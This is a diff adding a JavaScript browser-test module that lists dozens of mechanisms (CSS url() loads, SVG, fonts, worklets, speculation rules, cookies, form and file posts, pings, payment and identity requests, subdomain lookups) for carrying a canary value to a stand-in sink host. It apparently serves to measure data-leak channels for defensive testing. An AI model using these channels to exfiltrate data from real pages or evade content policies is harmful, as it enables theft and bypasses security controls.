@@ -1,0 +1,212 @@
+// More ways of cells.ts, for windows: what elements, styles and documents load, and what the browser does at their word.
+(() => {
+  const { SINK, at, settle, append, style, submit } = self.matrixTools;
+  const here = (cell) => `/in/${cell}`;
+  const box = (html) => {
+    const node = document.createElement('div');
+    node.innerHTML = html;
+    document.body.append(node);
+    return node;
+  };
+  const shown = async (html) => {
+    box(html);
+    await settle(600);
+  };
+  const link = async (attributes) => {
+    const node = document.createElement('link');
+    for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
+    document.head.append(node);
+    await settle(900);
+  };
+  const rules = async (kind, url) => {
+    const node = document.createElement('script');
+    node.type = 'speculationrules';
+    node.textContent = JSON.stringify({ [kind]: [{ urls: [url], eagerness: 'immediate' }] });
+    document.head.append(node);
+    await settle(1500);
+  };
+  const serves = (cell) => append('iframe', { src: `/document/${cell}` });
+  const url = (cell, canary) => `${at(cell)}?id=${canary}`;
+  const styled = (property, value) => (cell, canary) =>
+    shown(`<div style='${property}: ${value(url(cell, canary))}; width: 9px; height: 9px'>x</div>`);
+  const image = (tag, attribute) => (cell, canary) => shown(`<${tag} ${attribute}="${url(cell, canary)}">`);
+
+  Object.assign(self.matrixWays, {
+    host: (cell, canary) => append('img', { src: `https://${canary}.sink.example/in/${cell}` }),
+    picture: (cell, canary) => shown(`<picture><source srcset="${url(cell, canary)}"><img alt=""></picture>`),
+    poster: image('video', 'poster'),
+    'input-image': image('input type="image"', 'src'),
+    'table-background': image('table', 'background'),
+    'svg-use': (cell, canary) => shown(`<svg><use href="${here(cell)}?id=${canary}#a"/></svg>`),
+    'svg-filter': (cell, canary) =>
+      shown(
+        `<svg><filter id="f"><feImage href="${url(cell, canary)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+      ),
+    'svg-script': async (cell, canary) => {
+      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
+      script.setAttribute('href', url(cell, canary));
+      svg.append(script);
+      document.body.append(svg);
+      await settle(600);
+    },
+    'svg-set': (cell, canary) =>
+      shown(
+        `<svg><image width="9" height="9"><set attributeName="href" to="${url(cell, canary)}"/></image></svg>`,
+      ),
+    'css-set': styled('background', (address) => `image-set(url("${address}") 1x)`),
+    'css-cursor': styled('cursor', (address) => `url("${address}"), auto`),
+    'css-mask': styled('mask-image', (address) => `url("${address}")`),
+    'css-content': async (cell, canary) => {
+      await style(`.m-${canary}::before { content: url("${url(cell, canary)}") }`);
+      await append('i', { className: `m-${canary}`, textContent: 'x' });
+    },
+    'css-adopted': async (cell, canary) => {
+      const sheet = new CSSStyleSheet();
+      sheet.replaceSync(`.a-${canary} { background: url("${url(cell, canary)}") }`);
+      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+      await append('i', { className: `a-${canary}`, textContent: 'x' });
+    },
+    'css-layer': (cell, canary) =>
+      style(`@import url("${url(cell, canary)}") layer(l) supports(display: block);`),
+    'font-face': (cell, canary) => new FontFace('f', `url("${url(cell, canary)}")`).load(),
+    'xml-stylesheet': serves,
+    xslt: serves,
+    'meta-refresh': serves,
+    'refresh-header': serves,
+    'location-set': serves,
+    'navigation-api': serves,
+    'link-header': serves,
+    'integrity-report': async (cell) => {
+      await serves(cell);
+      await settle(1500);
+    },
+    'embedder-report': async (cell) => {
+      await serves(cell);
+      await settle(1500);
+    },
+    audio: (cell, canary) => append('audio', { src: url(cell, canary), preload: 'auto' }),
+    source: (cell, canary) => shown(`<video preload="auto"><source src="${url(cell, canary)}"></video>`),
+    track: async (cell, canary) => {
+      const video = box(
+        `<video crossorigin src="${SINK}/in/none"><track default kind="subtitles" src="${url(cell, canary)}"></video>`,
+      ).firstChild;
+      video.textTracks[0].mode = 'showing';
+      await settle(600);
+    },
+    embed: (cell, canary) => append('embed', { type: 'image/png', src: url(cell, canary) }),
+    'object-document': (cell, canary) => append('object', { type: 'text/html', data: url(cell, canary) }),
+    'hls-segment': async (cell) => {
+      const video = document.createElement('video');
+      Object.assign(video, { src: `${SINK}/playlist/${cell}/list.m3u8`, preload: 'auto', muted: true });
+      document.body.append(video);
+      video.play().catch(() => {});
+      await settle(2000);
+    },
+    icon: (cell, canary) => link({ rel: 'icon', href: url(cell, canary) }),
+    manifest: (cell, canary) => link({ rel: 'manifest', href: `${here(cell)}?id=${canary}` }),
+    modulepreload: (cell, canary) => link({ rel: 'modulepreload', href: url(cell, canary) }),
+    'preload-font': (cell, canary) =>
+      link({ rel: 'preload', as: 'font', crossOrigin: 'anonymous', href: url(cell, canary) }),
+    'preload-script': (cell, canary) => link({ rel: 'preload', as: 'script', href: url(cell, canary) }),
+    'prefetch-rules': (cell, canary) => rules('prefetch', url(cell, canary)),
+    'prerender-rules': (cell, canary) => rules('prerender', `${here(cell)}?id=${canary}`),
+    'module-import': (cell) => append('script', { type: 'module', src: `${SINK}/module/${cell}` }),
+    'import-json': (cell, canary) => import(url(cell, canary), { with: { type: 'json' } }),
+    'import-css': (cell, canary) => import(url(cell, canary), { with: { type: 'css' } }),
+    'audio-worklet': (cell, canary) => new AudioContext().audioWorklet.addModule(url(cell, canary)),
+    'paint-worklet': (cell, canary) => CSS.paintWorklet.addModule(url(cell, canary)),
+    'worker-url': async (cell, canary) => {
+      const worker = new Worker(`${here(cell)}?id=${canary}`);
+      await settle(600);
+      worker.terminate();
+    },
+    'service-worker-url': async (cell, canary) => {
+      const registration = await navigator.serviceWorker.register(`${here(cell)}?id=${canary}`);
+      await registration.unregister();
+    },
+    'script-cookie': async (cell, canary) => {
+      // biome-ignore lint/suspicious/noDocumentCookie: the way itself.
+      document.cookie = `id=${canary}; Path=/in/${cell}`;
+      await append('img', { src: here(cell) });
+      // biome-ignore lint/suspicious/noDocumentCookie: the way itself.
+      document.cookie = `id=; Max-Age=0; Path=/in/${cell}`;
+    },
+    'cookie-store': async (cell, canary) => {
+      await cookieStore.set({ name: 'id', value: canary, path: '/in/' });
+      await append('img', { src: here(cell) });
+      await cookieStore.delete({ name: 'id', path: '/in/' });
+    },
+    'form-submitter': (cell, canary) =>
+      submit(cell, 'post', `<button name="id" value="${canary}"></button>`, (form) =>
+        form.requestSubmit(form.firstChild),
+      ),
+    'form-plain': (cell, canary) =>
+      submit(cell, 'post', `<input name="id" value="${canary}">`, (form) => {
+        form.enctype = 'text/plain';
+        form.submit();
+      }),
+    'form-multipart': (cell, canary) =>
+      submit(cell, 'post', `<input name="id" value="${canary}">`, (form) => {
+        form.enctype = 'multipart/form-data';
+        form.submit();
+      }),
+    'form-file': (cell, canary) => submitFile(cell, new File([canary], 'note.txt', { type: 'text/plain' })),
+    'form-file-name': (cell, canary) =>
+      submitFile(cell, new File(['x'], `${canary}.txt`, { type: 'text/plain' })),
+    'redirect-form': (cell, canary) =>
+      submit(cell, 'post', `<input name="id" value="${canary}">`, (form) => {
+        form.action = `${SINK}/redirect/${cell}?308`;
+        form.submit();
+      }),
+    'ping-to': async (cell, canary) => {
+      const target = document.createElement('iframe');
+      target.name = `to-${cell}`;
+      document.body.append(target);
+      const node = document.createElement('a');
+      // What the link itself leads to is not told the fragment; who is pinged is.
+      Object.assign(node, { href: `${SINK}/site/blank.html#${canary}`, ping: at(cell), target: target.name });
+      document.body.append(node);
+      node.click();
+      await settle(400);
+    },
+    'iframe-csp': (cell, canary) =>
+      append('iframe', { csp: `img-src https://${canary}.example`, src: at(cell) }),
+    download: async (cell, canary) => {
+      const node = document.createElement('a');
+      Object.assign(node, { href: `${here(cell)}?id=${canary}`, download: 'note.bin' });
+      document.body.append(node);
+      node.click();
+      await settle(600);
+    },
+    payment: async (cell, canary) => {
+      const total = { label: 'x', amount: { currency: 'USD', value: '1' } };
+      await new PaymentRequest([{ supportedMethods: url(cell, canary) }], { total }).canMakePayment();
+      await settle(500);
+    },
+    'identity-provider': (_cell, canary) =>
+      navigator.credentials.get({
+        identity: { providers: [{ configURL: `https://${canary}.example/fed.json`, clientId: 'x' }] },
+      }),
+    passkey: (_cell, canary) =>
+      navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: `${canary}.example` } }),
+    'fragment-fetch': (cell, canary) => fetch(`${at(cell)}#${canary}`, { method: 'POST', body: 'x' }),
+    'fragment-image': (cell, canary) => append('img', { src: `${at(cell)}#${canary}` }),
+    'fragment-iframe': (cell, canary) => append('iframe', { src: `${at(cell)}#${canary}` }),
+    'fragment-form': (cell, canary) =>
+      submit(cell, 'post', '<input name="x" value="1">', (form) => {
+        form.action = `${at(cell)}#${canary}`;
+        form.submit();
+      }),
+  });
+
+  function submitFile(cell, file) {
+    return submit(cell, 'post', '<input type="file" name="file">', (form) => {
+      const chosen = new DataTransfer();
+      chosen.items.add(file);
+      form.firstChild.files = chosen.files;
+      form.enctype = 'multipart/form-data';
+      form.submit();
+    });
+  }
+})();
